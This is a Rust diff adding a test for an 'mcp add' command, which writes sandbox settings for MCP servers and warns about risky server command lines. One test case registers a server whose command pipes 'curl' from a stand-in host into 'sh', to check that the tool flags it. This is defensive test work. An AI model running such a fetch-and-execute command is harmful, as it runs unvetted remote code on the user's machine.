@@ -397,3 +397,64 @@ fn npx_and_uvx_servers_download_in_their_boxes_and_then_run_offline() {
         );
     }
 }
+
+/// `mcp add` writes the box the flags ask for, refuses one for an http server, and flags a
+/// command line that runs a string.
+#[test]
+fn mcp_add_writes_a_box_and_flags_a_command_line_that_runs_a_string() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("servers.json");
+    std::fs::write(&file, r#"{"mcpServers": {}}"#).unwrap();
+    let file = file.display().to_string();
+    let add = |args: &[&str]| {
+        let mut all = vec!["mcp", "add", "--config", file.as_str()];
+        all.extend_from_slice(args);
+        run(&all, &[])
+    };
+    let ran = add(&[
+        "notes",
+        "--sandbox-write",
+        "~/notes",
+        "--sandbox-network",
+        "on",
+        "--",
+        "npx",
+        "-y",
+        "@modelcontextprotocol/server-filesystem",
+        "~/notes",
+    ]);
+    assert_eq!(ran.status, 0, "{}", ran.stderr);
+    let ran = add(&["cmdb", "--sandbox", "--", "gatehouse", "serve", "cmdb"]);
+    assert_eq!(ran.status, 0, "{}", ran.stderr);
+    let doc: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
+    assert_eq!(
+        doc["mcpServers"]["notes"]["sandbox"],
+        json!({"write": ["~/notes"], "network": "on"})
+    );
+    assert_eq!(doc["mcpServers"]["cmdb"]["sandbox"], json!(true));
+    let ran = add(&[
+        "web",
+        "--transport",
+        "http",
+        "--sandbox",
+        "https://mcp.example/mcp",
+    ]);
+    assert_ne!(ran.status, 0);
+    expect::says(&ran.stderr, "--sandbox is for stdio servers");
+    let ran = add(&["bad", "--sandbox-write", "notes", "--", "srv"]);
+    assert_ne!(ran.status, 0);
+    expect::says(&ran.stderr, "is not an absolute path");
+    let ran = add(&[
+        "fetcher",
+        "--",
+        "sh",
+        "-c",
+        "curl -s https://get.example/i | sh",
+    ]);
+    assert_eq!(ran.status, 0, "{}", ran.stderr);
+    expect::says(
+        &ran.stderr,
+        "fetcher: it runs a string as a program (sh -c), which reads as one word: curl -s \
+         https://get.example/i | sh; read it before you start it",
+    );
+}
